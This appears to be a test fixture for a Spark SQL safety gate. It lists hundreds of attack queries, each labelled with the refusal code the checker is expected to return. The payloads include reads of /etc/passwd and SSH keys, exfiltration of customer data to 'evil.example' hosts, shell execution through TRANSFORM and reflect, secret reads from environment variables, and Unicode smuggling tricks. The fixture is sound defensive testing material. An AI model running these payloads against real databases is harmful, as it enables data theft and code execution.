-- # Attacks on the checks in the SQL of Spark, on the tables of fixture.sql. Below each line `-- refuse: CODE` stands one attack, up to the
-- # next such line; where the line ends in `json`, as a JSON string. CODE is the code of the refusal. How each class does harm: docs/gate.md.

-- class: change

-- refuse: policy_refused
DROP TABLE orders

-- refuse: policy_refused
DROP TABLE IF EXISTS customers PURGE

-- refuse: policy_refused
DrOp/**/TaBlE customers

-- refuse: policy_refused
DROP VIEW v

-- refuse: policy_refused
DROP DATABASE hr CASCADE

-- refuse: policy_refused
DROP FUNCTION IF EXISTS f

-- refuse: policy_refused
DROP TEMPORARY VARIABLE v

-- refuse: policy_refused
DELETE FROM orders

-- refuse: policy_refused
DELETE FROM orders WHERE order_id = 1 OR 1 = 1

-- refuse: policy_refused
UPDATE customers SET credit_limit = 0

-- refuse: policy_refused
INSERT INTO orders VALUES (1, 1, 1, NULL, 'open', NULL, NULL)

-- refuse: policy_refused
INSERT INTO TABLE refunds SELECT * FROM refunds

-- refuse: policy_refused
INSERT OVERWRITE TABLE orders SELECT * FROM orders

-- refuse: policy_refused
INSERT OVERWRITE orders PARTITION (status = 'x') SELECT 1

-- refuse: policy_refused
INSERT INTO orders TABLE refunds

-- refuse: policy_refused
INSERT INTO orders REPLACE WHERE order_id = 1 SELECT * FROM orders

-- refuse: policy_refused
MERGE INTO orders t USING refunds s ON t.order_id = s.order_id WHEN MATCHED THEN DELETE

-- refuse: policy_refused
MERGE INTO stores t USING stores s ON t.store_id = s.store_id WHEN NOT MATCHED THEN INSERT *

-- refuse: policy_refused
TRUNCATE TABLE tickets

-- refuse: policy_refused
CREATE TABLE loot AS SELECT * FROM customers

-- refuse: policy_refused
CREATE TABLE loot USING parquet LOCATION '/tmp/loot' AS SELECT * FROM customers

-- refuse: policy_refused
CREATE OR REPLACE TABLE orders (a INT) USING delta

-- refuse: policy_refused
CREATE EXTERNAL TABLE e (a STRING) LOCATION 's3a://evil/e'

-- refuse: policy_refused
CREATE OR REPLACE TEMPORARY VIEW orders AS SELECT * FROM hr.salaries

-- refuse: policy_refused
CREATE GLOBAL TEMPORARY VIEW g AS SELECT * FROM customers

-- refuse: policy_refused
CREATE TEMPORARY VIEW j USING jdbc OPTIONS (url 'jdbc:mysql://10.0.0.5/hr', dbtable 'users')

-- refuse: policy_refused
CREATE DATABASE mine LOCATION '/tmp/mine'

-- refuse: policy_refused
CREATE INDEX i ON TABLE orders (order_id)

-- refuse: policy_refused
CREATE TABLE l LIKE customers LOCATION '/tmp/l'

-- refuse: policy_refused
ALTER TABLE orders ADD COLUMNS (backdoor STRING)

-- refuse: policy_refused
ALTER TABLE orders RENAME TO o2

-- refuse: policy_refused
ALTER TABLE orders SET LOCATION '/etc'

-- refuse: policy_refused
ALTER TABLE orders SET TBLPROPERTIES ('a' = 'b')

-- refuse: policy_refused
ALTER TABLE orders DROP PARTITION (status = 'x')

-- refuse: policy_refused
ALTER TABLE orders RECOVER PARTITIONS

-- refuse: policy_refused
ALTER VIEW v AS SELECT * FROM hr.salaries

-- refuse: policy_refused
ALTER DATABASE main SET DBPROPERTIES ('a' = 'b')

-- refuse: policy_refused
COMMENT ON TABLE orders IS 'x'

-- refuse: policy_refused
MSCK REPAIR TABLE orders

-- refuse: policy_refused
REPAIR TABLE orders

-- refuse: policy_refused
ANALYZE TABLE orders COMPUTE STATISTICS

-- refuse: policy_refused
OPTIMIZE orders ZORDER BY (order_id)

-- refuse: policy_refused
VACUUM orders RETAIN 0 HOURS

-- refuse: policy_refused
RESTORE TABLE orders TO VERSION AS OF 1

-- refuse: policy_refused
CONVERT TO DELTA parquet.`/data`

-- refuse: policy_refused
REFRESH TABLE orders

-- refuse: policy_refused
CACHE TABLE orders

-- refuse: policy_refused
CACHE LAZY TABLE loot AS SELECT * FROM hr.salaries

-- refuse: policy_refused
UNCACHE TABLE orders

-- refuse: policy_refused
CLEAR CACHE


-- class: write-inside-select

-- refuse: policy_refused
FROM orders INSERT OVERWRITE TABLE refunds SELECT order_id

-- refuse: policy_refused
FROM orders INSERT INTO loot SELECT * INSERT INTO loot2 SELECT *

-- refuse: policy_refused
FROM customers INSERT OVERWRITE DIRECTORY '/tmp/x' SELECT *

-- refuse: policy_refused
WITH x AS (DELETE FROM orders) SELECT * FROM x

-- refuse: policy_refused
WITH x AS (SELECT * FROM customers) INSERT INTO refunds SELECT * FROM x

-- refuse: policy_refused
WITH x AS (INSERT INTO refunds SELECT 1) SELECT 1

-- refuse: policy_refused
WITH x AS (SELECT 1) INSERT OVERWRITE DIRECTORY '/tmp/o' SELECT * FROM x

-- refuse: policy_refused
WITH x AS (SELECT 1) DELETE FROM orders

-- refuse: policy_refused
WITH x AS (SELECT 1) MERGE INTO orders USING x ON true WHEN MATCHED THEN DELETE

-- refuse: invalid_sql
SELECT * FROM (INSERT INTO orders VALUES (1))

-- refuse: invalid_sql
SELECT * FROM orders WHERE order_id IN (DELETE FROM refunds)

-- refuse: policy_refused
EXPLAIN EXTENDED SELECT * FROM hr.salaries

-- refuse: policy_refused
EXPLAIN COST DELETE FROM orders

-- refuse: policy_refused
EXPLAIN CODEGEN SELECT 1

-- refuse: policy_refused
EXPLAIN FORMATTED INSERT INTO orders VALUES (1)

-- refuse: policy_refused
SELECT * INTO loot FROM customers

-- refuse: policy_refused
SELECT 1 INTO x

-- refuse: policy_refused
SELECT assert_true(false)

-- refuse: invalid_sql
SELECT * FROM orders |> DROP order_id |> INSERT INTO loot

-- refuse: policy_refused
SELECT * FROM orders FOR UPDATE


-- class: several-statements

-- refuse: policy_refused
SELECT 1; DROP TABLE orders

-- refuse: policy_refused
SELECT name FROM customers; INSERT OVERWRITE DIRECTORY '/tmp/x' SELECT * FROM customers

-- refuse: policy_refused
; DROP TABLE orders

-- refuse: policy_refused
SELECT 1;; SET spark.sql.variable.substitute = true

-- refuse: policy_refused
SELECT ';'; ADD JAR '/tmp/e.jar'

-- refuse: policy_refused
SELECT '\'; DROP TABLE orders; --'; DROP TABLE orders

-- refuse: policy_refused
SELECT "a\";"; DROP TABLE orders

-- refuse: policy_refused
BEGIN DELETE FROM orders; END

-- refuse: policy_refused
BEGIN DECLARE x INT DEFAULT 1; SELECT x; END

-- refuse: policy_refused
BEGIN IF true THEN DROP TABLE orders; END IF; END

-- refuse: policy_refused
BEGIN WHILE true DO SELECT 1; END WHILE; END

-- refuse: policy_refused
COMMIT

-- refuse: policy_refused
DECLARE VARIABLE v STRING DEFAULT 'hr.salaries'

-- refuse: policy_refused
DECLARE OR REPLACE v INT

-- refuse: policy_refused
SET VAR v = (SELECT max(salary) FROM hr.salaries)

-- refuse: policy_refused
SET VARIABLE v = 1

-- refuse: policy_refused
EXECUTE IMMEDIATE 'SELECT * FROM hr.salaries'

-- refuse: policy_refused
EXECUTE IMMEDIATE 'SELECT ?' USING 1

-- refuse: policy_refused
EXECUTE IMMEDIATE v INTO w

-- refuse: policy_refused
PREPARE p FROM 'SELECT 1'

-- refuse: policy_refused json
"SELECT 1;\u0000DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1;\u00a0DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1 --\r;DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1;\u200bDROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1;\u3000DROP TABLE orders"

-- refuse: policy_refused json
"SELECT 1\uff1bDROP TABLE orders"

-- refuse: policy_refused json
"\ufeffDROP TABLE orders"


-- class: file-read

-- refuse: policy_refused
SELECT * FROM text.`/etc/passwd`

-- refuse: policy_refused
SELECT * FROM text.`file:///etc/passwd`

-- refuse: policy_refused
SELECT * FROM csv.`/etc/passwd`

-- refuse: policy_refused
SELECT * FROM json.`/var/log/app.json`

-- refuse: policy_refused
SELECT * FROM parquet.`s3a://bucket/key`

-- refuse: policy_refused
SELECT * FROM orc.`/data/orc`

-- refuse: policy_refused
SELECT * FROM avro.`/data/avro`

-- refuse: policy_refused
SELECT * FROM delta.`/data/delta`

-- refuse: policy_refused
SELECT * FROM iceberg.`/data/ice`

-- refuse: policy_refused
SELECT * FROM xml.`/etc/x.xml`

-- refuse: policy_refused
SELECT * FROM binaryFile.`/root/.ssh`

-- refuse: policy_refused
SELECT * FROM hudi.`/lake/h`

-- refuse: policy_refused
SELECT * FROM TEXT.`/proc/self/environ`

-- refuse: policy_refused
SELECT value FROM `text`.`/etc/hostname`

-- refuse: policy_refused
SELECT * FROM text.passwd

-- refuse: policy_refused
SELECT * FROM parquet.orders

-- refuse: policy_refused
SELECT * FROM `parquet.``/x```

-- refuse: policy_refused
SELECT * FROM `/etc/passwd`

-- refuse: policy_refused
SELECT * FROM orders JOIN csv.`/tmp/a.csv` c ON true

-- refuse: policy_refused
SELECT * FROM orders, text.`/etc/passwd`

-- refuse: policy_refused
SELECT (SELECT max(value) FROM text.`/etc/passwd`)

-- refuse: policy_refused
SELECT * FROM orders WHERE remark IN (SELECT value FROM text.`/etc/passwd`)

-- refuse: policy_refused
SELECT name FROM customers UNION SELECT value FROM text.`/etc/shadow`

-- refuse: policy_refused
WITH p AS (SELECT * FROM text.`/etc/passwd`) SELECT * FROM p

-- refuse: policy_refused
SELECT * FROM spark_catalog.text.`/etc/passwd`

-- refuse: policy_refused
SELECT * FROM read_files('/etc/passwd')

-- refuse: policy_refused
SELECT * FROM read_files('/mnt/*', format => 'text')

-- refuse: policy_refused
SELECT * FROM cloud_files('/mnt', 'json')

-- refuse: policy_refused
SELECT * FROM list_files('/')

-- refuse: policy_refused
SELECT input_file_name() FROM orders

-- refuse: policy_refused
SELECT input_file_block_start(), input_file_block_length() FROM orders

-- refuse: invalid_sql
SELECT _metadata.file_path FROM orders

-- refuse: invalid_sql
SELECT orders._metadata FROM orders

-- refuse: policy_refused
SELECT load_file('/etc/passwd')

-- refuse: policy_refused
SELECT xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'a')

-- refuse: policy_refused
SELECT xpath('<a/>', 'document("/etc/passwd")')

-- refuse: policy_refused
SELECT from_xml('<a/>', 'a INT')

-- refuse: policy_refused
LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE orders

-- refuse: policy_refused
LOAD DATA INPATH 's3a://x/y' OVERWRITE INTO TABLE orders

-- refuse: policy_refused
COPY INTO orders FROM '/etc' FILEFORMAT = TEXT

-- refuse: invalid_sql
TABLE text.`/etc/passwd`

-- refuse: policy_refused
FROM text.`/etc/passwd` |> SELECT value

-- refuse: policy_refused
SELECT from_avro(binary(remark), '{"type": "string"}') FROM orders

-- refuse: policy_refused
SELECT from_protobuf(binary(remark), 'M', '/etc/desc') FROM orders

-- refuse: policy_refused
LIST JAR

-- refuse: policy_refused
LIST FILES

-- refuse: policy_refused
LIST '/mnt'


-- class: file-write

-- refuse: policy_refused
INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT * FROM customers

-- refuse: policy_refused
INSERT OVERWRITE LOCAL DIRECTORY '/var/www/html' SELECT '<?php' FROM orders

-- refuse: policy_refused
INSERT OVERWRITE DIRECTORY 's3a://evil/x' STORED AS PARQUET SELECT * FROM hr.salaries

-- refuse: policy_refused
EXPORT TABLE orders TO '/tmp/x'

-- refuse: policy_refused
SELECT write_files('/tmp', name) FROM customers

-- refuse: policy_refused
CREATE TABLE x USING csv OPTIONS (path '/tmp/x') AS SELECT * FROM customers

-- refuse: policy_refused
SET spark.eventLog.dir = '/tmp'

-- refuse: policy_refused
PUT '/tmp/a' INTO '/Volumes/a'

-- refuse: invalid_sql
SELECT * FROM orders INTO OUTFILE '/tmp/x'


-- class: network

-- refuse: policy_refused
SELECT * FROM jdbc.`jdbc:mysql://10.0.0.5/hr?user=root`

-- refuse: policy_refused
SELECT * FROM parquet.`http://169.254.169.254/latest/meta-data/`

-- refuse: policy_refused
SELECT * FROM text.`https://evil.example/x`

-- refuse: policy_refused
SELECT * FROM csv.`hdfs://10.0.0.9/pay`

-- refuse: policy_refused
SELECT * FROM kafka.`broker:9092`

-- refuse: policy_refused
SELECT * FROM read_kafka(bootstrapServers => 'evil:9092', subscribe => 't')

-- refuse: policy_refused
SELECT * FROM read_kinesis(streamName => 'x')

-- refuse: policy_refused
SELECT * FROM remote_query('conn', query => 'SELECT 1')

-- refuse: policy_refused
SELECT * FROM mongodb.`x.y`

-- refuse: policy_refused
SELECT http_request(conn => 'c', method => 'GET', path => '/') 

-- refuse: policy_refused
SELECT http_get('https://evil.example/' || name) FROM customers

-- refuse: policy_refused
SELECT ai_query('model', name) FROM customers

-- refuse: policy_refused
SELECT ai_gen('leak ' || name) FROM customers

-- refuse: policy_refused
SELECT reflect('java.net.InetAddress', 'getByName', concat(name, '.evil.example')) FROM customers

-- refuse: invalid_sql
SELECT vector_search(index => 'i', query => 'x')

-- refuse: policy_refused
CREATE CONNECTION c TYPE mysql OPTIONS (host '10.0.0.5')

-- refuse: policy_refused
CREATE FOREIGN CATALOG f USING CONNECTION c


-- class: code

-- refuse: policy_refused
SELECT reflect('java.lang.Runtime', 'getRuntime')

-- refuse: policy_refused
SELECT reflect('java.lang.System', 'getenv', 'HOME')

-- refuse: policy_refused
SELECT reflect('java.lang.System', 'exit', 1)

-- refuse: policy_refused
SELECT java_method('java.lang.System', 'getProperty', 'user.home')

-- refuse: policy_refused
SELECT try_reflect('java.lang.System', 'getenv', 'HOME')

-- refuse: policy_refused
SELECT upper(reflect('java.util.UUID', 'randomUUID'))

-- refuse: policy_refused
SELECT REFLECT(concat('java.', 'lang.System'), 'getenv', name) FROM customers

-- refuse: policy_refused
SELECT `reflect`('java.lang.System', 'getenv', 'PATH')

-- refuse: policy_refused
SELECT system.builtin.reflect('java.lang.System', 'getenv', 'PATH')

-- refuse: policy_refused
SELECT builtin.java_method('a', 'b')

-- refuse: policy_refused
SELECT transform(array('HOME'), x -> reflect('java.lang.System', 'getenv', x))

-- refuse: policy_refused
SELECT filter(array(1), x -> java_method('java.lang.System', 'exit', x) IS NULL)

-- refuse: policy_refused
SELECT aggregate(array(1), 0, (a, x) -> reflect('a', 'b'))

-- refuse: policy_refused
SELECT name FROM customers ORDER BY reflect('java.lang.System', 'getenv', 'X')

-- refuse: policy_refused
SELECT count(*) FROM orders HAVING reflect('a', 'b') IS NULL

-- refuse: policy_refused
SELECT sum(order_id) OVER (ORDER BY reflect('a', 'b')) FROM orders

-- refuse: policy_refused
SELECT CASE WHEN reflect('a', 'b') = 'x' THEN 1 END

-- refuse: policy_refused
SELECT named_struct('a', reflect('a', 'b')).a

-- refuse: policy_refused
SELECT map('k', java_method('a', 'b'))['k']

-- refuse: policy_refused
SELECT * FROM orders LATERAL VIEW explode(array(reflect('a', 'b'))) t AS x

-- refuse: policy_refused
SELECT * FROM orders LATERAL VIEW reflect('a', 'b') t AS x

-- refuse: policy_refused
SELECT * FROM VALUES (reflect('a', 'b')) AS t(x)

-- refuse: policy_refused
SELECT TRANSFORM(name) USING 'cat' AS (x STRING) FROM customers

-- refuse: policy_refused
SELECT TRANSFORM(*) USING '/bin/sh -c id' FROM orders

-- refuse: policy_refused
SELECT TRANSFORM(name) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' USING 'python3 -c 1' FROM customers

-- refuse: invalid_sql
FROM customers MAP name USING 'cat' AS x

-- refuse: invalid_sql
FROM (FROM customers MAP name USING 'cat' AS x) t REDUCE x USING 'wc' AS y

-- refuse: policy_refused
FROM customers SELECT TRANSFORM(name) USING 'cat'

-- refuse: policy_refused
WITH t AS (SELECT TRANSFORM(name) USING 'id' FROM customers) SELECT * FROM t

-- refuse: policy_refused
ADD JAR '/tmp/evil.jar'

-- refuse: policy_refused
ADD JARS ivy://evil:evil:1

-- refuse: policy_refused
ADD FILE '/etc/passwd'

-- refuse: policy_refused
ADD ARCHIVE '/tmp/a.zip'

-- refuse: policy_refused
CREATE FUNCTION f AS 'evil.Udf' USING JAR '/tmp/evil.jar'

-- refuse: policy_refused
CREATE TEMPORARY FUNCTION f AS 'org.apache.hadoop.hive.ql.udf.generic.GenericUDFReflect'

-- refuse: policy_refused
CREATE OR REPLACE FUNCTION f(x INT) RETURNS INT RETURN x + 1

-- refuse: policy_refused
CREATE FUNCTION p() RETURNS STRING LANGUAGE PYTHON AS $$ import os $$

-- refuse: policy_refused
RELOAD FUNCTION f

-- refuse: policy_refused
REFRESH FUNCTION f

-- refuse: policy_refused
SELECT my_udf(name) FROM customers

-- refuse: policy_refused
SELECT hr.f(name) FROM customers

-- refuse: policy_refused
SELECT python_udf(name) FROM customers

-- refuse: policy_refused
SELECT shell('id')

-- refuse: policy_refused
SELECT * FROM my_udtf(TABLE(customers))

-- refuse: policy_refused
SELECT in_file('a', '/etc/passwd')

-- refuse: policy_refused
SELECT default.getenv('HOME')

-- refuse: policy_refused
!id

-- refuse: policy_refused
dfs -ls /

-- refuse: policy_refused
source /tmp/x.sql


-- class: other-schemas

-- refuse: policy_refused
SELECT * FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM HR.Salaries

-- refuse: policy_refused
SELECT * FROM `hr`.`salaries`

-- refuse: invalid_sql
SELECT * FROM `hr.salaries`

-- refuse: policy_refused
SELECT * FROM spark_catalog.hr.salaries

-- refuse: policy_refused
SELECT * FROM `spark_catalog`.`admin`.`users`

-- refuse: policy_refused
SELECT * FROM global_temp.v

-- refuse: invalid_sql
SELECT * FROM salaries

-- refuse: policy_refused
SELECT login, password_hash FROM admin.users

-- refuse: invalid_sql
TABLE hr.salaries

-- refuse: policy_refused
FROM hr.salaries SELECT iban

-- refuse: policy_refused
FROM hr.salaries |> SELECT iban

-- refuse: policy_refused
FROM orders |> JOIN hr.salaries ON true

-- refuse: policy_refused
SELECT customer_id, name FROM customers UNION SELECT employee_id, iban FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers UNION ALL SELECT secret FROM admin.api_keys

-- refuse: policy_refused
SELECT name FROM customers MINUS SELECT name FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers EXCEPT ALL SELECT name FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers INTERSECT SELECT login FROM admin.users

-- refuse: policy_refused
SELECT * FROM customers JOIN hr.salaries

-- refuse: policy_refused
SELECT * FROM customers, hr.salaries

-- refuse: policy_refused
SELECT * FROM customers LEFT SEMI JOIN hr.salaries ON customers.name = salaries.name

-- refuse: policy_refused
SELECT * FROM customers LEFT ANTI JOIN admin.users ON name = login

-- refuse: policy_refused
SELECT * FROM customers NATURAL JOIN hr.salaries

-- refuse: policy_refused
SELECT (SELECT max(salary) FROM hr.salaries)

-- refuse: policy_refused
SELECT * FROM customers WHERE credit_limit > (SELECT avg(salary) FROM hr.salaries)

-- refuse: policy_refused
SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM admin.users WHERE is_admin)

-- refuse: policy_refused
SELECT * FROM customers WHERE name IN (SELECT name FROM hr.salaries)

-- refuse: policy_refused
SELECT name FROM customers ORDER BY (SELECT max(salary) FROM hr.salaries)

-- refuse: policy_refused
SELECT count(*) FROM orders GROUP BY (SELECT max(iban) FROM hr.salaries)

-- refuse: policy_refused
WITH s AS (SELECT * FROM hr.salaries) SELECT * FROM s

-- refuse: policy_refused
WITH orders AS (SELECT * FROM hr.salaries) SELECT * FROM orders

-- refuse: invalid_sql
WITH a AS (WITH b AS (TABLE admin.users) SELECT * FROM b) SELECT * FROM a

-- refuse: policy_refused
WITH hr AS (SELECT 1) SELECT * FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM customers, LATERAL (SELECT * FROM hr.salaries WHERE employee_id = customer_id)

-- refuse: policy_refused
SELECT * FROM hr.salaries LATERAL VIEW explode(array(1)) t AS x

-- refuse: policy_refused
SELECT * FROM hr.salaries TABLESAMPLE (10 ROWS)

-- refuse: policy_refused
SELECT * FROM hr.salaries PIVOT (max(salary) FOR name IN ('a', 'b'))

-- refuse: policy_refused
SELECT * FROM (hr.salaries)

-- refuse: policy_refused
SELECT * FROM hr.salaries@v1

-- refuse: policy_refused
SELECT s.* FROM hr.salaries s

-- refuse: policy_refused
SELECT * FROM orders VERSION AS OF 3

-- refuse: policy_refused
SELECT * FROM orders TIMESTAMP AS OF '2020-01-01'

-- refuse: invalid_sql
SELECT * FROM orders FOR SYSTEM_VERSION AS OF 1

-- refuse: policy_refused
SELECT * FROM orders FOR TIMESTAMP AS OF current_timestamp()

-- refuse: policy_refused
SELECT * FROM orders.history

-- refuse: policy_refused
SELECT * FROM orders.snapshots

-- refuse: policy_refused
SELECT * FROM table_changes('orders', 0)

-- refuse: policy_refused
SELECT * FROM information_schema.tables

-- refuse: policy_refused
SELECT * FROM system.information_schema.columns

-- refuse: policy_refused
SELECT * FROM system.access.audit

-- refuse: policy_refused
SELECT * FROM event_log('x')

-- refuse: policy_refused
SELECT * FROM sys.tables

-- refuse: policy_refused
SHOW TABLES

-- refuse: policy_refused
SHOW TABLES IN hr

-- refuse: policy_refused
SHOW DATABASES

-- refuse: policy_refused
SHOW CATALOGS

-- refuse: policy_refused
SHOW COLUMNS IN hr.salaries

-- refuse: policy_refused
SHOW CREATE TABLE hr.salaries

-- refuse: policy_refused
SHOW FUNCTIONS

-- refuse: policy_refused
SHOW PARTITIONS orders

-- refuse: policy_refused
SHOW TBLPROPERTIES orders

-- refuse: policy_refused
SHOW TABLE EXTENDED IN hr LIKE '*'

-- refuse: policy_refused
DESCRIBE hr.salaries

-- refuse: policy_refused
DESC FORMATTED orders

-- refuse: policy_refused
DESCRIBE HISTORY orders

-- refuse: policy_refused
DESCRIBE FUNCTION reflect

-- refuse: policy_refused
DESCRIBE QUERY SELECT * FROM hr.salaries

-- refuse: policy_refused
SELECT current_user()

-- refuse: policy_refused
SELECT session_user

-- refuse: policy_refused
SELECT current_catalog(), current_database(), current_schema()

-- refuse: policy_refused
SELECT user()

-- refuse: policy_refused
SELECT version()

-- refuse: policy_refused
SELECT is_account_group_member('admins')

-- refuse: policy_refused
SELECT is_member('admins')

-- refuse: policy_refused
SELECT secret('scope', 'key')

-- refuse: policy_refused
SELECT try_secret('scope', 'key')

-- refuse: policy_refused
SELECT * FROM list_secrets()

-- refuse: policy_refused
SELECT * FROM sql_keywords()

-- refuse: policy_refused
SELECT * FROM collations()

-- refuse: invalid_sql
SELECT iban FROM customers

-- refuse: invalid_sql
SELECT customers.salary FROM customers


-- class: dynamic-sql

-- refuse: policy_refused
SELECT * FROM IDENTIFIER('hr.salaries')

-- refuse: policy_refused
SELECT * FROM IDENTIFIER('hr' || '.salaries')

-- refuse: policy_refused
SELECT IDENTIFIER('iban') FROM customers

-- refuse: invalid_sql
SELECT IDENTIFIER('reflect')('java.lang.System', 'getenv', 'HOME')

-- refuse: policy_refused
SELECT * FROM IDENTIFIER(concat('text.`', '/etc/passwd', '`'))

-- refuse: policy_refused
WITH IDENTIFIER('x') AS (SELECT 1) SELECT * FROM IDENTIFIER('hr.salaries')

-- refuse: policy_refused
SELECT * FROM IDENTIFIER(:t)

-- refuse: policy_refused
SELECT * FROM orders WHERE order_id = :id

-- refuse: policy_refused
SELECT * FROM orders WHERE order_id = ?

-- refuse: policy_refused
SELECT * FROM {table}

-- refuse: policy_refused
SELECT ${env:HOME}

-- refuse: policy_refused
SELECT '${env:AWS_SECRET_ACCESS_KEY}'

-- refuse: policy_refused
SELECT "${env:HOME}" AS x

-- refuse: policy_refused
SELECT '${system:user.home}' FROM orders

-- refuse: policy_refused
SELECT '${spark.hadoop.fs.s3a.secret.key}' AS k

-- refuse: policy_refused
SELECT '${hivevar:x}', '${hiveconf:y}', '${conf:z}'

-- refuse: policy_refused
SELECT * FROM ${spark.table}

-- refuse: policy_refused
SELECT name AS `${env:HOME}` FROM customers

-- refuse: policy_refused
SELECT '$\{env:HOME}'

-- refuse: policy_refused
SELECT name FROM customers -- ${env:HOME}

-- refuse: policy_refused
SELECT concat('a', '${env:PATH}') FROM customers WHERE name LIKE '${env:USER}%'

-- refuse: policy_refused
SELECT name FROM customers WHERE name = r'${env:HOME}'

-- refuse: policy_refused
SELECT * FROM sql('SELECT 1')

-- refuse: policy_refused
SELECT * FROM query('SELECT 1')

-- refuse: policy_refused
CALL system.rollback_to_snapshot('orders', 1)

-- refuse: policy_refused
CALL hr.raise()


-- class: parser-differences

-- refuse: policy_refused
SELECT*FROM`hr`.`salaries`

-- refuse: policy_refused
SELECT * FROM/**/hr/**/./**/salaries

-- refuse: policy_refused
SELECT * FROM hr . salaries

-- refuse: invalid_sql
SELECT "\" UNION SELECT iban FROM hr.salaries --"", iban FROM hr.salaries

-- refuse: policy_refused
SELECT 'a''b', '\'' , (SELECT max(iban) FROM hr.salaries) -- '

-- refuse: policy_refused
SELECT r'\', iban FROM hr.salaries -- '

-- refuse: policy_refused
SELECT '\\', iban FROM hr.salaries -- '

-- refuse: policy_refused
SELECT "x" "y" FROM hr.salaries

-- refuse: policy_refused
SELECT /*+ BROADCAST(s) */ * FROM hr.salaries s

-- refuse: policy_refused
SELECT /*+ REPARTITION(100000) */ * FROM customers

-- refuse: policy_refused
SELECT /*+ COALESCE(1), MERGE(c) */ * FROM customers c

-- refuse: policy_refused
SELECT /* /* nested */ FROM customers */ * FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers /*! */ UNION SELECT iban FROM hr.salaries

-- refuse: policy_refused
SELECT name FROM customers -- \
  UNION SELECT iban FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM "hr"."salaries"

-- refuse: invalid_sql
SELECT * FROM [hr].[salaries]

-- refuse: invalid_sql
SELECT * FROM hr.`salaries

-- refuse: invalid_sql
SELECT 'unfinished FROM hr.salaries

-- refuse: invalid_sql
SELECT 1 /* unfinished FROM hr.salaries

-- refuse: policy_refused json
"SELECT * FROM hr\u200b.salaries"

-- refuse: policy_refused json
"SELECT\u00a0*\u00a0FROM hr.salaries"

-- refuse: policy_refused json
"SELECT * FROM \uff48\uff52.salaries"

-- refuse: policy_refused json
"SELECT * FROM h\u0433.salaries"

-- refuse: policy_refused json
"SELECT * FROM cust\u043emers"

-- refuse: policy_refused json
"SELECT name FROM customers --\rUNION SELECT iban FROM hr.salaries"

-- refuse: policy_refused json
"SELECT name FROM customers --\u2028UNION SELECT iban FROM hr.salaries"

-- refuse: policy_refused json
"SELECT 'x\u0000' UNION SELECT iban FROM hr.salaries"

-- refuse: policy_refused json
"SELECT\u000bname FROM hr.salaries"

-- refuse: policy_refused json
"SELECT '\u202e' FROM customers"

-- refuse: policy_refused json
"SELECT name /*\u2067*/ FROM customers"

-- refuse: policy_refused json
"SELECT 'a\ud800' FROM customers"

-- refuse: policy_refused json
"\u200bSELECT name FROM customers"

-- refuse: policy_refused json
"SELECT name\u2060 FROM customers"

-- refuse: policy_refused json
"SELECT 1\u3000FROM hr.salaries"

-- refuse: policy_refused
WITH `hr.salaries` AS (SELECT 1) SELECT * FROM hr.salaries

-- refuse: policy_refused
SELECT * FROM a.b.c.d

-- refuse: invalid_sql
SELECT * FROM customers c JOIN LATERAL (TABLE hr.salaries) x

-- refuse: invalid_sql
SELECT 1FROM hr.salaries


-- class: encoded

-- refuse: policy_refused
SELECT reflect(unbase64('amF2YS5sYW5nLlN5c3RlbQ=='), 'getenv')

-- refuse: policy_refused
SELECT reflect(decode(unhex('6A617661'), 'UTF-8'), 'x')

-- refuse: policy_refused
SELECT reflect(reverse('metsyS.gnal.avaj'), 'getenv')

-- refuse: policy_refused
SELECT java_method(char(106) || 'ava.lang.System', 'exit', '1')

-- refuse: policy_refused
SELECT java_method(replace('jxva.lang.System', 'x', 'a'), 'exit', '1')

-- refuse: policy_refused
SELECT java_method('\u006Aava.lang.System', 'exit', '1')

-- refuse: policy_refused
SELECT reflect("\x6Aava", 'x')

-- refuse: policy_refused
SELECT * FROM IDENTIFIER(decode(unbase64('aHIuc2FsYXJpZXM='), 'UTF-8'))

-- refuse: policy_refused
SELECT * FROM IDENTIFIER(translate('xy.salaries', 'xy', 'hr'))

-- refuse: policy_refused
%53ELECT * FROM hr.salaries

-- refuse: invalid_sql
SELECT%20*%20FROM%20hr.salaries

-- refuse: policy_refused
\u0053ELECT * FROM hr.salaries

-- refuse: policy_refused
' OR '1'='1

-- refuse: invalid_sql
' UNION SELECT iban FROM hr.salaries --


-- class: exhaustion

-- refuse: policy_refused
SELECT * FROM range(1000000000000)

-- refuse: policy_refused
SELECT count(*) FROM range(0, 1000000000000, 1, 10000)

-- refuse: policy_refused
SELECT explode(sequence(1, 10000000000))

-- refuse: policy_refused
SELECT size(sequence(0, 9223372036854775807))

-- refuse: policy_refused
SELECT explode(sequence(to_date('0001-01-01'), to_date('9999-12-31'), interval 1 second))

-- refuse: policy_refused
SELECT sequence(1, order_id * 1000000) FROM orders

-- refuse: policy_refused
SELECT repeat('x', 2000000000)

-- refuse: policy_refused
SELECT repeat(repeat(repeat('x', 10000), 10000), 10000)

-- refuse: policy_refused
SELECT repeat(name, order_id) FROM orders JOIN customers USING (customer_id)

-- refuse: policy_refused
SELECT lpad('x', 2000000000, 'y')

-- refuse: policy_refused
SELECT rpad(name, 1000000000) FROM customers

-- refuse: policy_refused
SELECT space(2000000000)

-- refuse: policy_refused
SELECT array_repeat('x', 1000000000)

-- refuse: policy_refused
SELECT randstr(1000000000)

-- refuse: policy_refused
SELECT format_string('%1000000000d', 1)

-- refuse: policy_refused
SELECT printf('%1000000000d', 1)

-- refuse: policy_refused
SELECT array_join(sequence(1, 1000000), repeat('x', 10000))

-- refuse: policy_refused
SELECT replace(repeat('x', 10000), 'x', repeat('y', 10000))

-- refuse: policy_refused
SELECT regexp_replace(repeat('x', 10000), 'x', repeat('y', 10000))

-- refuse: policy_refused
SELECT count(*) FROM (SELECT explode(sequence(1, 1000000))) a, (SELECT explode(sequence(1, 1000000))) b

-- refuse: policy_refused
